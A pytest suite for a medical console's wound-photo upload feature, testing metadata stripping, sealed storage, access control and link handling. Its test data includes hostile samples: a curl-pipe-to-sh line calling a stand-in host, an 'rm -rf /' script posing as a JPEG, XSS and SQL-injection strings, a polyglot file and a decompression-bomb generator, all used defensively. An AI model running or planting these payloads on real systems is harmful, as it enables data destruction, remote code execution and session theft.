"""Wound photos end to end on SQLite and PostgreSQL (fixture `engine`): the caller's upload
page, the store, the sealed files and the staff routes, with real images made by Pillow
here and hostile ones (a script, 50 MB, a decompression bomb, a polyglot, closed links)."""
from __future__ import annotations

import hashlib
import io
import json
import os
import re
import stat
import struct
import zlib
from dataclasses import replace
from datetime import timedelta, timezone

import pytest
from PIL import ExifTags, Image
from sqlalchemy import select
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from db.models import CasePhotoRow, UploadLinkRow
from db.photos import LinkClosed, PhotoStore
from photos.images import PhotoRejected, process
from photos.links import LinkRefusal
from photos.rules import MAX_BYTES, MAX_NOTE, PhotoRefusal
from tests.adapters.test_console_calls import NOW, audits, seed_calls
from tests.support.clock import Clock
from tests.support.console import console_app, csrf_token, seed_people, sign_in
from vault import MAGIC, Vault, VaultError, new_key

UTC = timezone.utc
T0 = NOW.astimezone(UTC)
KEY = new_key()


# --------------------------------------------------------------------------- images made here


def jpeg(size=(640, 480), colour=(180, 40, 40), exif: Image.Exif | None = None,
         halves: bool = False) -> bytes:
    image = Image.new("RGB", size, colour)
    if halves:  # left half red, right half blue: shows which way it was turned
        image.paste((0, 0, 255), (size[0] // 2, 0, size[0], size[1]))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, **({"exif": exif.tobytes()} if exif is not None else {}))
    return out.getvalue()


def gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Apple"
    exif[ExifTags.Base.Model] = "iPhone 15"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (43.0, 52.0, 10.0)  # 长春
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (125.0, 19.0, 5.0)
    return exif


def png_rgba(size=(300, 200)) -> bytes:
    image = Image.new("RGBA", size, (0, 128, 0, 255))
    image.paste((0, 0, 0, 0), (0, 0, size[0] // 2, size[1]))  # half transparent
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def heic(size=(320, 240)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (90, 60, 30)).save(out, "HEIF")
    return out.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """A one-colour 1-bit greyscale PNG of width x height, written chunk by chunk
    (Pillow never holds it): it compresses to almost nothing."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    rows_at_once = 1000
    parts = [packer.compress(row * rows_at_once) for _ in range(height // rows_at_once)]
    parts.append(packer.compress(row * (height % rows_at_once)))
    parts.append(packer.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", b"".join(parts))
            + chunk(b"IEND", b""))


def decoded(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


# --------------------------------------------------------------------------- the decoder alone


def test_a_phone_jpeg_loses_its_exif_and_gps():
    original = jpeg(exif=gps_exif())
    assert decoded(original).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # it had GPS
    photo = process(original)
    stored = decoded(photo.jpeg)
    assert stored.format == "JPEG" and (photo.width, photo.height) == (640, 480)
    assert len(stored.getexif()) == 0 and "exif" not in stored.info
    assert b"Exif" not in photo.jpeg and b"Apple" not in photo.jpeg and b"iPhone" not in photo.jpeg
    thumb = decoded(photo.thumb)
    assert max(thumb.size) == 320 and len(thumb.getexif()) == 0


def test_the_exif_orientation_is_applied_before_it_is_dropped():
    # Stored 400x200 landscape, left red / right blue; orientation 6: shown turned 90° clockwise.
    photo = process(jpeg(size=(400, 200), exif=gps_exif(orientation=6), halves=True))
    stored = decoded(photo.jpeg).convert("RGB")
    assert stored.size == (200, 400) and (photo.width, photo.height) == (200, 400)
    top, bottom = stored.getpixel((100, 50)), stored.getpixel((100, 350))
    assert top[0] > 150 and top[2] < 80, top  # the left (red) half is now on top
    assert bottom[2] > 200 and bottom[0] < 80, bottom
    assert len(decoded(photo.jpeg).getexif()) == 0


def test_png_and_heic_become_jpeg():
    from_png = process(png_rgba())
    image = decoded(from_png.jpeg).convert("RGB")
    assert decoded(from_png.jpeg).format == "JPEG" and from_png.kind.value == "png"
    assert image.getpixel((10, 10))[0] > 240  # transparency laid on white, not black
    from_heic = process(heic())
    assert decoded(from_heic.jpeg).format == "JPEG" and from_heic.kind.value == "heic"
    assert (from_heic.width, from_heic.height) == (320, 240)


@pytest.mark.parametrize("data, refusal", [
    (b"#!/bin/sh\ncurl http://x.example/a | sh\n", PhotoRefusal.NOT_AN_IMAGE),
    (b"<html><script>alert(1)</script></html>", PhotoRefusal.NOT_AN_IMAGE),
    (b"", PhotoRefusal.EMPTY),
    (b"\xff\xd8\xff\xe0" + b"\x00" * 100, PhotoRefusal.UNREADABLE),  # a JPEG's magic, then nothing
    (b"\x89PNG\r\n\x1a\n" + b"garbage" * 10, PhotoRefusal.UNREADABLE),
])
def test_hostile_bytes_are_refused(data, refusal):
    with pytest.raises(PhotoRejected) as caught:
        process(data)
    assert caught.value.refusal is refusal


def test_a_truncated_jpeg_and_a_png_with_a_bad_crc_are_refused():
    whole = jpeg()
    with pytest.raises(PhotoRejected) as caught:
        process(whole[:len(whole) // 2])
    assert caught.value.refusal is PhotoRefusal.UNREADABLE
    png = bytearray(png_rgba())
    png[40] ^= 0xFF  # inside the IDAT: its CRC no longer matches
    with pytest.raises(PhotoRejected) as caught:
        process(bytes(png))
    assert caught.value.refusal is PhotoRefusal.UNREADABLE


def test_decompression_bombs_are_refused_before_decoding():
    bomb = png_bomb(30000, 30000)  # 900 million pixels
    assert len(bomb) < 200_000
    with pytest.raises(PhotoRejected) as caught:
        process(bomb)  # Pillow's own guard (MAX_IMAGE_PIXELS) refuses it at open
    assert caught.value.refusal is PhotoRefusal.TOO_MANY_PIXELS
    over_ours = png_bomb(8000, 6000)  # 48 MP: under Pillow's limit, over ours (40 MP)
    with pytest.raises(PhotoRejected) as caught:
        process(over_ours)
    assert caught.value.refusal is PhotoRefusal.TOO_MANY_PIXELS


def test_a_polyglot_keeps_only_the_image():
    tail = (b"PK\x03\x04\x14\x00\x00\x00\x08\x00evil.html" + b"\x00" * 20
            + b"<html><script>fetch('/api/v1/calls')</script></html>")
    photo = process(jpeg() + tail)
    assert b"PK\x03\x04" not in photo.jpeg and b"<script>" not in photo.jpeg
    assert photo.jpeg.endswith(b"\xff\xd9")  # ends where a JPEG ends


# --------------------------------------------------------------------------- the app


@pytest.fixture
def recordings(tmp_path):
    folder = tmp_path / "recordings"
    folder.mkdir()
    return folder


@pytest.fixture
def seeded(engine, recordings):
    seed_people(engine)
    seed_calls(engine, recordings)
    return engine


@pytest.fixture
def clock():
    return Clock(T0)


def with_photos(app):
    """The photos blueprint on a test app (until console.pages lists it, then as it is)."""
    if "photos" not in app.blueprints:
        from console import photos
        photos.register(app, app.extensions["csrf"])
    return app


@pytest.fixture
def app(seeded, recordings, clock):
    # Links are built on the console's public address only (never the Host header).
    return with_photos(console_app(seeded, clock=clock, RECORDINGS_DIR=str(recordings),
                                   DATA_KEYS=[KEY], CONSOLE_PUBLIC_URL="http://localhost"))


@pytest.fixture
def store(seeded, recordings, clock):
    return PhotoStore(seeded, recordings, Vault([KEY]), clock)


def new_link(store, case_id="C-1", **terms):
    return store.create_link(case_id, by="user:sup", **terms)


def send(client, token, *files, note="", **kw):
    data = {"photos": [(io.BytesIO(body), name, ctype) for body, name, ctype in files]}
    if note:
        data["note"] = note
    return client.post(f"/u/{token}", data=data, content_type="multipart/form-data", **kw)


def rows(engine, table):
    with engine.connect() as conn:
        return list(conn.execute(select(table).order_by(table.id)))


def staff(app, user):
    client = app.test_client()
    sign_in(client, user)
    return client


def test_the_upload_page_is_mobile_first_and_has_no_inline_code(app, store):
    token, _ = new_link(store)
    page = app.test_client().get(f"/u/{token}")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    for text in ('name="viewport"', 'accept="image/*"', 'capture="environment"', "multiple",
                 "上传伤情照片", "Send wound photos", 'name="note"', "photo_upload.js",
                 "photo_upload.css", "2026-03-10 14:00"):
        assert text in html, text
    assert "<script>" not in html and "style=" not in html and "<style" not in html
    assert "script-src 'self'" in page.headers["Content-Security-Policy"]
    assert "no-store" in page.headers["Cache-Control"]
    assert "csrf_token" not in html and "C-1" not in html  # no session; the case is not named


def test_a_caller_sends_photos_and_staff_see_them_sealed_and_audited(app, store, seeded, recordings):
    token, link = new_link(store)
    response = send(app.test_client(), token,
                    (jpeg(exif=gps_exif()), "IMG_0001.JPG", "image/jpeg"),
                    (png_rgba(), "screenshot.png", "image/png"),
                    (heic(), "IMG_0002.HEIC", "image/heic"),
                    note="右手食指 离断，约 1 小时")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert "已收到 3 张照片" in response.get_data(as_text=True)
    photos = rows(seeded, CasePhotoRow)
    assert [p.case_id for p in photos] == ["C-1"] * 3 and {p.sender for p in photos} == {"caller"}
    assert all(p.link_id == link.id and p.at == T0 for p in photos)
    assert photos[0].note.startswith("hlv1:")  # the caller's note is sealed like a case note
    assert rows(seeded, UploadLinkRow)[0].uploads == 3
    uploaded = audits(seeded, "upload_photo")
    assert [a.actor for a in uploaded] == [f"upload_link:{link.id}"] * 3
    assert [json.loads(a.detail)["kind"] for a in uploaded] == ["jpeg", "png", "heic"]

    first = photos[0]
    on_disk = recordings / first.path
    assert first.path == f"photos/C-1/{first.id}.jpg" and on_disk.is_file()
    raw = on_disk.read_bytes()
    assert raw.startswith(MAGIC) and b"\xff\xd8\xff" not in raw[:64]  # sealed, not a JPEG
    assert stat.S_IMODE(os.stat(on_disk).st_mode) == 0o600
    assert not list(recordings.rglob("*.part"))

    client = staff(app, "doc1")  # surgeon 1 was rung for C-1
    got = client.get(f"/cases/C-1/photos/{first.id}")
    assert got.status_code == 200 and got.mimetype == "image/jpeg"
    assert got.headers["Cache-Control"] == "private, no-store"
    assert hashlib.sha256(got.data).hexdigest() == first.sha256
    image = decoded(got.data)
    assert len(image.getexif()) == 0 and b"Exif" not in got.data  # no GPS left
    thumb = client.get(f"/cases/C-1/photos/{first.id}/thumb")
    assert thumb.status_code == 200 and max(decoded(thumb.data).size) == 320
    views = audits(seeded, "view_photo")
    assert [(v.actor, v.subject_id) for v in views] == [("user:doc1", "C-1")] * 2
    assert [json.loads(v.detail) for v in views] == [{"photo": first.id, "thumb": False},
                                                     {"photo": first.id, "thumb": True}]
    page = client.get("/cases/C-1/photos").get_data(as_text=True)
    assert "右手食指 离断，约 1 小时" in page and f"/cases/C-1/photos/{first.id}/thumb" in page


def test_a_surgeon_who_took_no_part_may_not_see_the_photos(app, store, seeded):
    token, _ = new_link(store, "C-2")  # surgeon 3's case
    send(app.test_client(), token, (jpeg(), "a.jpg", "image/jpeg"))
    photo_id = rows(seeded, CasePhotoRow)[0].id
    doc2 = staff(app, "doc2")
    for path in (f"/cases/C-2/photos/{photo_id}", f"/cases/C-2/photos/{photo_id}/thumb",
                 "/cases/C-2/photos"):
        response = doc2.get(path)
        assert response.status_code == 403 and response.mimetype == "text/html", path
    assert len(audits(seeded, "denied")) == 3 and audits(seeded, "view_photo") == []
    assert staff(app, "head").get(f"/cases/C-2/photos/{photo_id}").status_code == 200
    anonymous = app.test_client().get(f"/cases/C-2/photos/{photo_id}")
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]


def test_a_photo_is_only_served_under_its_own_case(app, store, seeded):
    token, link = new_link(store, "C-1")
    send(app.test_client(), token, (jpeg(), "a.jpg", "image/jpeg"))
    photo_id = rows(seeded, CasePhotoRow)[0].id
    sup = staff(app, "sup")
    assert sup.get(f"/cases/C-1/photos/{photo_id}").status_code == 200
    assert sup.get(f"/cases/C-2/photos/{photo_id}").status_code == 404  # C-1's photo, C-2's route
    assert sup.get(f"/cases/C-1/photos/{photo_id + 1}").status_code == 404
    assert sup.get("/cases/C-404/photos/1").status_code == 404
    with pytest.raises(LinkClosed) as caught:  # case A's link used for case B
        store.add_photo(link, process(jpeg()), case_id="C-2")
    assert caught.value.refusal is LinkRefusal.FOREIGN
    assert len(rows(seeded, CasePhotoRow)) == 1


def test_a_sealed_photo_copied_to_another_case_does_not_open(app, store, seeded, recordings):
    token, _ = new_link(store, "C-1")
    send(app.test_client(), token, (jpeg(), "a.jpg", "image/jpeg"))
    photo = store.photos_of("C-1")[0]
    foreign = PhotoStore(seeded, recordings, Vault([new_key()]), store.clock)
    with pytest.raises(VaultError):
        foreign.read(photo)  # another key ring
    with pytest.raises(VaultError):
        store.read(replace(photo, case_id="C-2"))  # bound to its case


@pytest.mark.parametrize("body, name, ctype", [
    (b"#!/bin/sh\nrm -rf / --no-preserve-root\n", "wound.jpg", "image/jpeg"),
    (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "x.png", "image/png"),
    (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "a.heic", "image/heic"),
])
def test_files_that_are_not_photos_are_refused_whatever_they_are_called(app, store, seeded, recordings,
                                                                        body, name, ctype):
    token, _ = new_link(store)
    response = send(app.test_client(), token, (body, name, ctype))
    assert response.status_code == 422
    assert "不是照片" in response.get_data(as_text=True)
    assert rows(seeded, CasePhotoRow) == [] and rows(seeded, UploadLinkRow)[0].uploads == 0
    assert not (recordings / "photos").exists()


def test_a_bomb_and_a_polyglot_through_the_page(app, store, seeded, recordings):
    token, _ = new_link(store)
    client = app.test_client()
    bomb = send(client, token, (png_bomb(30000, 30000), "wound.png", "image/png"))
    assert bomb.status_code == 422 and "像素过多" in bomb.get_data(as_text=True)
    assert rows(seeded, CasePhotoRow) == []
    original = jpeg()
    tail = b"PK\x03\x04" + b"\x00" * 26 + b"<html><script>alert(document.cookie)</script>"
    polyglot = send(client, token, (original + tail, "wound.jpg", "image/jpeg"))
    assert polyglot.status_code == 200
    photo = store.photos_of("C-1")[0]
    plain = store.read(photo)
    assert b"PK\x03\x04" not in plain and b"<script>" not in plain
    assert plain != original and len(plain) == photo.bytes
    served = staff(app, "sup").get(f"/cases/C-1/photos/{photo.id}")
    assert served.data == plain and served.headers["X-Content-Type-Options"] == "nosniff"


class CountingStream(io.RawIOBase):
    """A request body of `size` zero bytes that counts how much of it is read
    (seekable only because werkzeug's test client measures its length)."""

    def __init__(self, size: int) -> None:
        self.size, self.pos, self.read_bytes = size, 0, 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        self.pos = {0: offset, 1: self.pos + offset, 2: self.size + offset}[whence]
        return self.pos

    def tell(self) -> int:
        return self.pos

    def readinto(self, buffer) -> int:
        n = max(0, min(len(buffer), self.size - self.pos))
        buffer[:n] = b"\x00" * n
        self.pos += n
        self.read_bytes += n
        return n


def test_a_50_mb_upload_is_refused_without_being_read(app, store, seeded):
    token, _ = new_link(store)
    body = CountingStream(50 * 1024 * 1024)
    response = app.test_client().post(f"/u/{token}", input_stream=body,
                                      content_length=body.size,
                                      content_type="multipart/form-data; boundary=xyz")
    assert response.status_code == 413
    assert "文件过大" in response.get_data(as_text=True)
    assert body.read_bytes < 1024 * 1024  # refused on its Content-Length
    assert rows(seeded, CasePhotoRow) == []


def test_one_photo_over_15_mb_is_refused_and_the_rest_is_kept(app, store, seeded):
    token, _ = new_link(store)
    big = b"\xff\xd8\xff\xe0" + b"\x00" * MAX_BYTES  # 15 MB + 4 bytes
    # The body encoded here, in memory: the test client's own encoder spools a
    # large body to a temporary file it never closes.
    boundary, body = encode_multipart(MultiDict([
        ("photos", FileStorage(io.BytesIO(big), "big.jpg", content_type="image/jpeg")),
        ("photos", FileStorage(io.BytesIO(jpeg()), "ok.jpg", content_type="image/jpeg"))]))
    response = app.test_client().post(f"/u/{token}", data=body,
                                      content_type=f"multipart/form-data; boundary={boundary}")
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "已收到 1 张照片" in html and "文件过大" in html
    assert len(rows(seeded, CasePhotoRow)) == 1


def closed_page(client, token):
    response = client.get(f"/u/{token}")
    post = send(client, token, (jpeg(), "a.jpg", "image/jpeg"))
    assert response.status_code == 404 and post.status_code == 404
    return response.get_data(as_text=True), post.get_data(as_text=True)


def test_expired_revoked_used_up_and_unknown_links_look_the_same(app, store, seeded, clock):
    client = app.test_client()
    unknown = closed_page(client, "A" * 24)
    assert "链接无效或已过期" in unknown[0] and unknown[0] == unknown[1]
    for hostile in ("A" * 200, "%27%3B%20DROP%20TABLE%20cases--", "A" * 23 + "%00", "%E7%97%85" * 8):
        assert closed_page(client, hostile) == unknown, hostile

    expiring, _ = new_link(store)
    revoked, revoked_link = new_link(store)
    used, _ = new_link(store, max_uploads=2)
    assert send(client, used, (jpeg(), "1.jpg", "image/jpeg"), (jpeg(), "2.jpg", "image/jpeg")
                ).status_code == 200
    assert closed_page(client, used) == unknown  # replayed past max_uploads
    assert store.revoke_link("C-1", revoked_link.id, by="user:sup") is True
    assert closed_page(client, revoked) == unknown
    clock.now = T0 + timedelta(hours=2)
    assert closed_page(client, expiring) == unknown
    assert len(rows(seeded, CasePhotoRow)) == 2


def test_a_post_with_more_photos_than_the_link_has_left(app, store, seeded):
    token, _ = new_link(store, max_uploads=2)
    response = send(app.test_client(), token, *[(jpeg(), f"{i}.jpg", "image/jpeg") for i in range(3)])
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "已收到 2 张照片" in html and "链接已用完" in html
    assert len(rows(seeded, CasePhotoRow)) == 2 and rows(seeded, UploadLinkRow)[0].uploads == 2


def test_a_link_closed_between_reading_and_storing_stores_nothing(store, seeded):
    _, link = new_link(store, max_uploads=1)
    store.add_photo(link, process(jpeg()))
    with pytest.raises(LinkClosed) as caught:
        store.add_photo(link, process(jpeg()))  # the stale object still says 0 uploads
    assert caught.value.refusal is LinkRefusal.USED_UP
    _, other = new_link(store)
    store.revoke_link("C-1", other.id, by="user:sup")
    with pytest.raises(LinkClosed) as caught:
        store.add_photo(other, process(jpeg()))
    assert caught.value.refusal is LinkRefusal.REVOKED
    assert len(rows(seeded, CasePhotoRow)) == 1


def test_a_failed_file_write_leaves_no_row_and_no_used_slot(store, seeded, recordings):
    _, link = new_link(store)
    (recordings / "photos").write_bytes(b"not a directory")  # the photos dir cannot be made
    with pytest.raises(OSError):
        store.add_photo(link, process(jpeg()))
    assert rows(seeded, CasePhotoRow) == [] and rows(seeded, UploadLinkRow)[0].uploads == 0
    assert audits(seeded, "upload_photo") == []


def test_notes_are_limited_and_cleaned(app, store, seeded):
    token, _ = new_link(store)
    client = app.test_client()
    too_long = send(client, token, (jpeg(), "a.jpg", "image/jpeg"), note="x" * (MAX_NOTE + 1))
    assert too_long.status_code == 400 and rows(seeded, CasePhotoRow) == []
    ok = send(client, token, (jpeg(), "a.jpg", "image/jpeg"), note="  伤口\x00<b>深</b>\u202e  ")
    assert ok.status_code == 200
    assert store.photos_of("C-1")[0].note == "伤口<b>深</b>"
    page = staff(app, "sup").get("/cases/C-1/photos").get_data(as_text=True)
    assert "伤口&lt;b&gt;深&lt;/b&gt;" in page and "<b>深</b>" not in page


def test_staff_make_and_revoke_links_with_csrf(app, seeded):
    sup = staff(app, "sup")
    assert sup.post("/cases/C-1/upload-link").status_code == 400  # no CSRF token
    token = csrf_token(sup, "/cases/C-1/photos")
    made = sup.post("/cases/C-1/upload-link", data={"csrf_token": token})
    assert made.status_code == 201
    html = made.get_data(as_text=True)
    url = re.search(r'value="(http://localhost/u/[A-Za-z0-9_-]{24})"', html).group(1)
    link_row = rows(seeded, UploadLinkRow)[0]
    assert link_row.created_by == "user:sup" and link_row.expires_at == T0 + timedelta(hours=2)
    assert url.rsplit("/", 1)[1] not in json.dumps([str(v) for v in link_row])  # only the hash kept
    assert audits(seeded, "create_upload_link")[0].subject_id == "C-1"
    caller = app.test_client()
    assert caller.get(url).status_code == 200
    revoked = sup.post(f"/cases/C-1/upload-links/{link_row.id}/revoke", data={"csrf_token": token})
    assert revoked.status_code == 303
    assert caller.get(url).status_code == 404
    assert sup.post(f"/cases/C-2/upload-links/{link_row.id}/revoke",
                    data={"csrf_token": token}).status_code == 404  # another case's link
    doc2 = staff(app, "doc2")
    doc2_token = csrf_token(doc2, "/cases/C-1/photos")
    assert doc2.post("/cases/C-2/upload-link", data={"csrf_token": doc2_token}).status_code == 403
    assert len(rows(seeded, UploadLinkRow)) == 1


def test_uploads_are_rate_limited_per_link_and_per_address(seeded, recordings, clock, store):
    app = with_photos(console_app(seeded, clock=clock, RECORDINGS_DIR=str(recordings),
                                  DATA_KEYS=[KEY], ratelimit=True))
    client = app.test_client()
    token, _ = new_link(store)
    for n in range(20):  # one link from twenty phones: empty posts still count
        response = client.post(f"/u/{token}", data={}, environ_base={"REMOTE_ADDR": f"10.0.0.{n}"})
        assert response.status_code == 400, n
    limited = client.post(f"/u/{token}", data={}, environ_base={"REMOTE_ADDR": "10.0.1.1"})
    assert limited.status_code == 429 and "请求过于频繁" in limited.get_data(as_text=True)
    other, _ = new_link(store)
    for n in range(20):  # one address trying many tokens
        client.post(f"/u/{'B' * 23}{n % 10}", data={}, environ_base={"REMOTE_ADDR": "10.0.2.2"})
    assert client.post(f"/u/{other}", data={},
                       environ_base={"REMOTE_ADDR": "10.0.2.2"}).status_code == 429
    assert client.post(f"/u/{other}", data={},
                       environ_base={"REMOTE_ADDR": "10.0.2.3"}).status_code == 400


def test_the_photo_sweep_seals_plain_photos_and_reseals_after_a_rotation(seeded, recordings, clock):
    from photos.files import read_photo, seal_photo_tree

    plain_store = PhotoStore(seeded, recordings, None, clock)  # written before sealing was on
    _, link = plain_store.create_link("C-1", by="user:sup")
    photo = plain_store.add_photo(link, process(jpeg()))
    path = recordings / photo.path
    assert path.read_bytes().startswith(b"\xff\xd8\xff")
    old = Vault([KEY])
    assert seal_photo_tree(recordings, old) == (2, 0)  # the photo and its thumbnail
    assert path.read_bytes().startswith(MAGIC)
    assert seal_photo_tree(recordings, old) == (0, 0)
    newer = new_key()
    rotated = Vault([newer, KEY])
    assert seal_photo_tree(recordings, rotated) == (2, 0)
    assert rotated.sealed_by_current_key(path.read_bytes())
    opened = read_photo(recordings, photo.path, "C-1", Vault([newer]))  # the old key is not needed
    assert opened.startswith(b"\xff\xd8\xff") and len(opened) == photo.bytes
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


def test_a_photo_waits_for_a_decoding_slot_and_is_refused_as_busy_when_none_frees(monkeypatch):
    from photos import images
    monkeypatch.setattr(images, "DECODE_WAIT_S", 0.2)
    taken = [images._DECODES.acquire(timeout=1) for _ in range(images.MAX_DECODES)]
    try:
        assert all(taken)
        with pytest.raises(PhotoRejected) as refused:
            process(jpeg())
        assert refused.value.refusal is PhotoRefusal.BUSY and refused.value.refusal.words[1]
    finally:
        for _ in taken:
            images._DECODES.release()
    assert process(jpeg()).width == 640  # a slot free again: decoded as before
